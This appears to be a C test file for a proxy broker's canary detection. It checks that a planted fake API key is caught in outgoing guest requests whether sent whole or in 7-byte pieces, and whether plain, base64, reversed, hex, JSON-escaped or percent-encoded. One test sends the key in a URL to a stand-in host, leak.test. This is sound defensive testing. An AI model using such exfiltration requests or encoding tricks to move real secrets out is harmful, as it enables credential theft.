/* SPDX-License-Identifier: MIT */
/* A planted key in what a guest sends, in one piece and in two, as it is and encoded: told once. */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "eb-test.h"
#include "tests/component/broker/eb-test-broker.h"

#define CANARY "sk-ant-api03-Zq3vXw81kPfM0aT7eYbRcL5uHd9sNj2g"

typedef struct {
    guint count;
    char *where;
} Seen;

static void
on_canary(EbBrokerCtl *ctl, const char *where, gpointer user_data)
{
    Seen *seen = user_data;

    seen->count++;
    g_free(seen->where);
    seen->where = g_strdup(where);
}

static EbTestBroker *
start(Seen *seen)
{
    EbTestBroker *broker = eb_test_broker_prepare(NULL);
    char bytes[] = CANARY;

    broker->rules->canary = eb_secret_new_take("canary", bytes, strlen(bytes), NULL);
    eb_test_broker_start(broker);
    g_signal_connect(broker->ctl, "canary", G_CALLBACK(on_canary), seen);
    return broker;
}

/* A request with @body, which leaves in pieces of @piece bytes; waits for its row in the audit. */
static void
post(EbTestBroker *broker, const char *body, gsize piece)
{
    g_autofree char *request =
        g_strdup_printf("POST /provider/anthropic/count HTTP/1.1\r\nHost: x\r\nx-api-key: " TEST_NONCE
                        "\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
                        strlen(body), body);
    gsize length = strlen(request);
    int fd = eb_test_broker_connect(broker);

    for (gsize at = 0; at < length; at += piece) {
        eb_test_send(fd, request + at, MIN(piece, length - at));
        g_usleep(200);
    }
    g_autofree char *answer = eb_test_receive_all(fd, NULL);
    g_assert_cmpuint(eb_test_status_of(answer), ==, 200);
    close(fd);
    eb_test_broker_wait_audit(broker, broker->audit->len + 1);
}

static char *
hex(const char *prefix, const char *text)
{
    GString *out = g_string_new(NULL);

    for (; *text != '\0'; text++)
        g_string_append_printf(out, "%s%02x", prefix, (guchar)*text);
    return g_string_free(out, FALSE);
}

static void
test_encodings(void)
{
    g_autofree char *base64 = g_base64_encode((const guchar *)"xx" CANARY, strlen(CANARY) + 2);
    g_autofree char *reversed = g_utf8_strreverse(CANARY, -1);
    g_autofree char *plain_hex = hex("", CANARY);
    g_autofree char *json = hex("\\u00", CANARY);
    g_autofree char *percent = hex("%", CANARY);
    const char *const shapes[] = {CANARY, base64, reversed, plain_hex, json, percent};

    for (guint i = 0; i < G_N_ELEMENTS(shapes); i++) {
        Seen seen = {0};
        g_autoptr(EbTestBroker) broker = start(&seen);
        g_autofree char *body = g_strdup_printf("{\"prompt\":\"look: %s\"}", shapes[i]);

        post(broker, "{\"prompt\":\"an innocent sk-ant-api03-something else\"}", 1 << 20);
        g_assert_cmpuint(seen.count, ==, 0);
        post(broker, body, i % 2 == 0 ? 1 << 20 : 7);
        g_assert_cmpuint(seen.count, ==, 1);
        g_assert_cmpstr(seen.where, ==, "a request");
        post(broker, body, 1 << 20); /* once is enough */
        g_assert_cmpuint(seen.count, ==, 1);
        g_free(seen.where);
    }
}

static void
test_head(void)
{
    Seen seen = {0};
    g_autoptr(EbTestBroker) broker = start(&seen);
    g_autofree char *answer =
        eb_test_broker_ask(broker, "GET http://leak.test/?k=" CANARY " HTTP/1.1\r\nHost: leak.test\r\n"
                                   "Connection: close\r\n\r\n");

    eb_test_broker_wait_audit(broker, 1);
    g_assert_cmpuint(eb_test_status_of(answer), ==, 403); /* refused, and noticed all the same */
    g_assert_cmpuint(seen.count, ==, 1);
    g_free(seen.where);
}

/* Without one nothing is looked for. */
static void
test_none(void)
{
    g_autoptr(EbTestBroker) broker = eb_test_broker_new();
    Seen seen = {0};

    g_signal_connect(broker->ctl, "canary", G_CALLBACK(on_canary), &seen);
    post(broker, CANARY, 1 << 20);
    g_assert_cmpuint(seen.count, ==, 0);
}

int
main(int argc, char **argv)
{
    eb_test_init(&argc, &argv);
    g_test_add_func("/broker/canary/encodings", test_encodings);
    g_test_add_func("/broker/canary/head", test_head);
    g_test_add_func("/broker/canary/none", test_none);
    return g_test_run();
}
